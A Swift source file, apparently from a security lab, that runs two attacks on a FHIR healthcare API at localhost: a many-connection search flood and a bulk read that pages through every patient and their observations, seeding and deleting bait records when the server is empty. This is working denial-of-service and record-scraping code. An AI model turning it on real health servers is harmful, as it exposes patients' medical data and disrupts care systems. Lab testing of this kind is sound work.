import AsyncHTTPClient
import Foundation
import JSON
import NIOCore

/// The lab's attacks through the FHIR API, from the host: a request flood and a bulk read of
/// every patient. Both go to 127.0.0.1 only (the base URL the lab's server listens on).
enum APIAttacks {
    struct Flood: Sendable {
        var requests = 0
        var errors = 0
        var seconds = 0.0
        var firstError: String?
    }

    struct Exfiltration: Sendable {
        /// Patients the server said it holds (the searchset's `total`), before the read.
        var present = 0
        var patients = 0
        var observations = 0
        var pages = 0
        /// Patients the scenario created because there were none, and then deleted.
        var seeded = 0
    }

    /// `connections` clients in a closed loop (each sends its next search when the last is
    /// answered) for `seconds`.
    static func flood(baseURL: String, connections: Int = 64, seconds: Double = 3) async -> Flood {
        var configuration = HTTPClient.Configuration()
        configuration.connectionPool.concurrentHTTP1ConnectionsPerHostSoftLimit = connections
        let client = HTTPClient(eventLoopGroupProvider: .singleton, configuration: configuration)
        let start = ContinuousClock.now
        let deadline = start + .milliseconds(Int(seconds * 1000))
        var total = await withTaskGroup(of: Flood.self) { group in
            for worker in 0..<connections {
                group.addTask {
                    var mine = Flood()
                    var page = worker
                    while ContinuousClock.now < deadline {
                        // Searches rather than one cheap read: each costs the server a query.
                        page += 1
                        do {
                            _ = try await get("\(baseURL)/Patient?_count=10&_page=\(page % 5 + 1)", client: client, timeout: 10)
                            mine.requests += 1
                        } catch {
                            mine.errors += 1
                            if mine.firstError == nil { mine.firstError = "\(error)" }
                        }
                    }
                    return mine
                }
            }
            var sum = Flood()
            for await part in group {
                sum.requests += part.requests
                sum.errors += part.errors
                sum.firstError = sum.firstError ?? part.firstError
            }
            return sum
        }
        total.seconds = elapsed(since: start)
        try? await client.shutdown()
        return total
    }

    /// Pages through every Patient (`_count` and the bundles' `next` links) and, for each, its
    /// Observations, counting the records pulled. When the server holds no patient, three are
    /// created first (two observations each) and deleted afterwards.
    static func exfiltrate(baseURL: String, pageSize: Int = 50) async throws -> Exfiltration {
        let client = HTTPClient(eventLoopGroupProvider: .singleton)
        var seeded: [(patient: String, observations: [String])] = []
        let outcome: Result<Exfiltration, any Error>
        do {
            outcome = .success(try await exfiltrate(baseURL: baseURL, pageSize: pageSize, client: client, seeded: &seeded))
        } catch {
            outcome = .failure(error)
        }
        // Remove what was planted, whatever happened.
        for (patient, observations) in seeded {
            for id in observations { try? await send("DELETE", "\(baseURL)/Observation/\(id)", client: client) }
            try? await send("DELETE", "\(baseURL)/Patient/\(patient)", client: client)
        }
        try? await client.shutdown()
        return try outcome.get()
    }

    private static func exfiltrate(
        baseURL: String, pageSize: Int, client: HTTPClient, seeded: inout [(patient: String, observations: [String])]
    ) async throws -> Exfiltration {
        var result = Exfiltration()
        result.present = try await patientTotal(baseURL: baseURL, client: client)
        if result.present == 0 {
            for index in 0..<3 {
                let patient = try await send(
                    "POST", "\(baseURL)/Patient",
                    body: #"{"resourceType":"Patient","name":[{"family":"Lab","given":["Bait\#(index)"]}],"gender":"female","birthDate":"1970-01-0\#(index + 1)"}"#,
                    client: client)
                var observations: [String] = []
                for value in [72, 118] {
                    observations.append(try await send(
                        "POST", "\(baseURL)/Observation",
                        body: #"{"resourceType":"Observation","status":"final","code":{"coding":[{"system":"http://loinc.org","code":"8867-4"}]},"subject":{"reference":"Patient/\#(patient)"},"valueQuantity":{"value":\#(value),"unit":"/min"}}"#,
                        client: client))
                }
                seeded.append((patient, observations))
            }
            result.seeded = seeded.count
            result.present = try await patientTotal(baseURL: baseURL, client: client)
        }
        var patients: [String] = []
        var seen: Set<String> = []
        var next: String? = "\(baseURL)/Patient?_count=\(pageSize)"
        while let url = next, result.pages < 100_000 {
            let bundle = try await get(url, client: client, timeout: 30)
            result.pages += 1
            for resource in matches(bundle) where resource["resourceType"]?.stringValue == "Patient" {
                if let id = resource["id"]?.stringValue, seen.insert(id).inserted { patients.append(id) }
            }
            next = link(bundle, "next")
        }
        result.patients = patients.count
        // Each patient's chart, eight at a time: what a scraper does with the ids it just got.
        result.observations = try await withThrowingTaskGroup(of: (Int, Int).self) { group in
            var pending = patients[...]
            func pull(_ patient: String) async throws -> (Int, Int) {
                var count = 0
                var pages = 0
                var next: String? = "\(baseURL)/Observation?subject=Patient/\(patient)&_count=\(pageSize)"
                while let url = next, pages < 10_000 {
                    let bundle = try await get(url, client: client, timeout: 30)
                    pages += 1
                    count += matches(bundle).count
                    next = link(bundle, "next")
                }
                return (count, pages)
            }
            for _ in 0..<8 {
                guard let patient = pending.popFirst() else { break }
                group.addTask { try await pull(patient) }
            }
            var total = 0
            for try await (count, pages) in group {
                total += count
                result.pages += pages
                if let patient = pending.popFirst() { group.addTask { try await pull(patient) } }
            }
            return total
        }
        return result
    }

    /// Whether the server answers its capability statement (`GET metadata`) within 5 s.
    static func answers(baseURL: String) async -> Bool {
        (try? await get("\(baseURL)/metadata", client: .shared, timeout: 5)) != nil
    }

    // MARK: - HTTP

    static func patientTotal(baseURL: String, client: HTTPClient) async throws -> Int {
        let bundle = try await get("\(baseURL)/Patient?_count=1", client: client, timeout: 30)
        guard case .number(let text)? = bundle["total"], let total = Int(text) else {
            throw LabError("GET \(baseURL)/Patient: the searchset has no total")
        }
        return total
    }

    /// The resources of a searchset's entries in search mode `match`.
    static func matches(_ bundle: JSONValue) -> [JSONValue] {
        (bundle["entry"]?.arrayValue ?? []).compactMap { entry in
            entry["search"]?["mode"]?.stringValue == "include" ? nil : entry["resource"]
        }
    }

    static func link(_ bundle: JSONValue, _ relation: String) -> String? {
        bundle["link"]?.arrayValue?.first { $0["relation"]?.stringValue == relation }?["url"]?.stringValue
    }

    /// GET, 200 expected; the body parsed.
    static func get(_ url: String, client: HTTPClient, timeout: Int64) async throws -> JSONValue {
        var request = HTTPClientRequest(url: url)
        request.headers.add(name: "Accept", value: "application/fhir+json")
        let response = try await client.execute(request, timeout: .seconds(timeout))
        let bytes = try await response.body.collect(upTo: 64 << 20)
        guard response.status.code == 200 else { throw LabError("GET \(url): \(response.status.code)") }
        return try JSONParser.parse(bytes.readableBytesView)
    }

    /// POST (the created resource's id, from `Location`) or DELETE.
    @discardableResult
    static func send(_ method: String, _ url: String, body: String? = nil, client: HTTPClient) async throws -> String {
        var request = HTTPClientRequest(url: url)
        request.method = .init(rawValue: method)
        request.headers.add(name: "Accept", value: "application/fhir+json")
        if let body {
            request.headers.add(name: "Content-Type", value: "application/fhir+json")
            request.body = .bytes(ByteBuffer(string: body))
        }
        let response = try await client.execute(request, timeout: .seconds(30))
        _ = try await response.body.collect(upTo: 1 << 20)
        guard (200..<300).contains(Int(response.status.code)) else { throw LabError("\(method) \(url): \(response.status.code)") }
        // .../Type/id/_history/n
        let parts = (response.headers.first(name: "Location") ?? "").split(separator: "/")
        return parts.count >= 3 ? String(parts[parts.count - 3]) : ""
    }

    static func elapsed(since start: ContinuousClock.Instant) -> Double {
        let elapsed = start.duration(to: .now)
        return Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18
    }
}
